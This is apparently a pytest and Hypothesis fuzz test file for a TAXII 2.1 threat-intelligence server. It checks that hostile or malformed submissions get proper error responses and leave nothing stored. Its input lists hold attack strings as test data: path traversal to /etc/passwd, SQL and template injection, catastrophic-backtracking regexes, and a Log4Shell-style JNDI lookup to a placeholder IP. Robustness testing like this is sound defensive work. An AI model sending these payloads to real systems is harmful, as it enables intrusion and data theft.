"""Whatever is sent: a TAXII error message with the right status, never a 500, nothing half stored."""

import base64
import json
import os
import socket
import time
import uuid
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from stillwatch.exchange.store.store import Store

TAXII = "application/taxii+json;version=2.1"
REFUSALS = {400, 413, 415, 422}

hostile = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=30),
    st.sampled_from(
        [
            "",
            "\0",
            "x" * 70_000,
            "(a+)+$",
            "[ipv4-addr:value MATCHES '(a+)+$']",
            "[" * 5000,
            "{{7*7}}${7*7}<%= 7*7 %>",
            "../../../../etc/passwd",
            "file:///etc/passwd",
            "'; DROP TABLE object; --",
            "2026-02-30T00:00:00Z",
            "2026-01-01T00:00:00+00:00",
            "9999-12-31T23:59:59.999999Z",
            "0001-01-01T00:00:00Z",
            "marking-definition--00000000-0000-0000-0000-000000000000",
            "\u202e\ufeff\U0001f4a3",
            '{"v":1,"kind":"prompt-template","tokens":[]}',
            10**400,
            -(2**63) - 1,
            1e308,
            [],
            {},
            [[]],
            [None],
            {"": {"": {"": {}}}},
            {"__proto__": {"a": 1}, "constructor": 1},
        ]
    ),
)
NAMES = [
    "type", "spec_version", "id", "created", "modified", "created_by_ref", "revoked", "labels", "confidence", "lang",
    "object_marking_refs", "granular_markings", "extensions", "external_references", "pattern", "pattern_type",
    "pattern_version", "valid_from", "valid_until", "name", "description", "object_refs", "x_unknown", "",
]  # fmt: skip
changes = st.dictionaries(st.sampled_from(NAMES), hostile, max_size=3)
live = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@pytest.fixture
def forum(forum_of, database_url):
    """On both databases: what one of them cannot hold must not reach it."""
    return forum_of(Store.open(database_url, create=True))


def count(forum):
    return len(forum.get(f"{forum.path}/manifest/", params={"match[version]": "all"}).json().get("objects", []))


def check(forum, answer, before):
    assert answer.headers["content-type"] == TAXII
    if answer.status_code == 202:
        return
    assert answer.status_code in REFUSALS, answer.text
    message = answer.json()
    assert message["title"]
    assert message["http_status"] == str(answer.status_code)
    assert count(forum) == before


@live
@given(body=st.binary(max_size=400))
def test_any_bytes(forum, body):
    check(forum, forum.post([], content=body), 0)


@live
@given(changed=changes, removed=st.sets(st.sampled_from(NAMES), max_size=2))
def test_any_change_of_a_good_object_beside_good_ones(forum, stix, changed, removed):
    before = count(forum)
    whole = stix() | changed
    bad = {name: value for name, value in whole.items() if name not in removed}
    body = json.dumps({"objects": [stix(), bad, stix()]}, ensure_ascii=True).encode()
    answer = forum.post([], content=body)
    check(forum, answer, before)
    if answer.status_code == 202:
        assert count(forum) - before in {2, 3}  # three, or the changed one was there already
        assert answer.json()["success_count"] == 3


@live
@given(envelope=st.dictionaries(st.sampled_from(["objects", "more", "x_stillwatch_signatures", "id"]), hostile))
def test_any_envelope(forum, envelope):
    check(forum, forum.post([], content=json.dumps(envelope).encode()), 0)


@live
@given(
    path=st.sampled_from(["objects/", "manifest/", "objects/{id}/", "objects/{id}/versions/"]),
    query=st.dictionaries(
        st.sampled_from(
            ["limit", "next", "added_after", "match[id]", "match[type]", "match[version]", "match[spec_version]"]
        ),
        st.text(max_size=40)
        | st.sampled_from(["%00", "\0", "all,last", "' OR 1=1", "9" * 400, "AAAA", "1970-01-01T00:00:00Z"]),
        max_size=4,
    ),
)
def test_any_query(forum, path, query):
    found = forum.get(f"{forum.path}/manifest/").json().get("objects") or forum.filled(1)
    answer = forum.get(f"{forum.path}/{path.format(id=found[0]['id'])}", params=query)
    assert answer.status_code in {200, 400}, answer.text
    assert answer.headers["content-type"] == TAXII


@live
@given(
    parts=st.lists(
        st.text(max_size=20) | st.sampled_from(["..", "%00", "%2f", "alliance", "ext", "objects"]), max_size=6
    )
)
def test_any_path(forum, parts):
    answer = forum.get("/" + "/".join(quote(part) for part in parts) + "/")
    assert answer.status_code in {200, 400, 404, 405, 406}, answer.text
    if answer.status_code != 200:
        assert answer.json()["http_status"] == str(answer.status_code)


def test_duplicate_ids_in_one_envelope(forum, stix):
    one = stix()
    for objects, status in (
        ([one, one], 202),
        ([one | {"name": "a", "id": (other := f"indicator--{uuid.uuid4()}")}, one | {"name": "b", "id": other}], 202),
        ([stix(), one | {"type": "note"}], 422),
    ):
        assert forum.post(objects).status_code == status
    assert count(forum) == 2


def test_a_pattern_is_text_and_never_run(forum, stix):
    slow = "(" * 40 + "a" + "+)" * 40 + "$"
    objects = [
        stix(pattern=f"[file:name MATCHES '{slow}']", name="a" * 10_000),
        stix(pattern=slow, pattern_type="pcre"),
        stix(pattern="rule x { condition: true }", pattern_type="yara"),
        stix(pattern="{{ config }} ${jndi:ldap://198.51.100.7/a}", pattern_type="sigma"),
    ]
    begun = time.monotonic()
    assert forum.post(objects).status_code == 202
    assert forum.get(f"{forum.path}/objects/").json()["objects"] == objects
    assert time.monotonic() - begun < 5


@pytest.mark.parametrize("body", [b"[" * 200_000, b'{"a":' * 200_000, b'{"objects":[' + b"[" * 200_000], ids=len)
def test_nesting_without_end(forum, body):
    check(forum, forum.post([], content=body), 0)


@pytest.mark.slow
def test_a_hundred_megabytes(forum, stix):
    """Just the bound is read; one byte more is 413, by its length and as a stream."""
    bound = forum.get("/alliance/").json()["max_content_length"]
    envelope = json.dumps({"objects": [stix()], "x_padding": ""}).encode()
    body = envelope[:-2] + b"p" * (bound - len(envelope)) + envelope[-2:]
    assert forum.post([], content=body).status_code == 202
    assert forum.post([], content=body + b" ").status_code == 413
    pieces = (body[at : at + 2**20] for at in range(0, len(body), 2**20))

    def longer():
        yield from pieces
        yield b" "

    assert forum.post([], content=longer()).status_code == 413
    assert count(forum) == 1
    noise = os.urandom(bound)
    assert forum.post([], content=noise).status_code == 400
    assert forum.get("/taxii2/").status_code == 200


def test_a_body_that_breaks_off_leaves_nothing(forum, stix):
    body = json.dumps({"objects": [stix()]}).encode()
    pair = base64.b64encode(f"ana:{forum.secrets['ana']}".encode()).decode()
    lines = (
        f"POST {forum.path}/objects/ HTTP/1.1",
        "Host: exchange.example",
        f"Content-Type: {TAXII}",
        f"Authorization: Basic {pair}",
        f"Content-Length: {len(body)}",
    )
    head = "\r\n".join(lines) + "\r\n\r\n"
    with socket.create_connection(("127.0.0.1", forum.server.port)) as connection:
        connection.sendall(head.encode() + body[:-5])
    time.sleep(0.2)
    assert count(forum) == 0
    assert forum.get("/taxii2/").status_code == 200
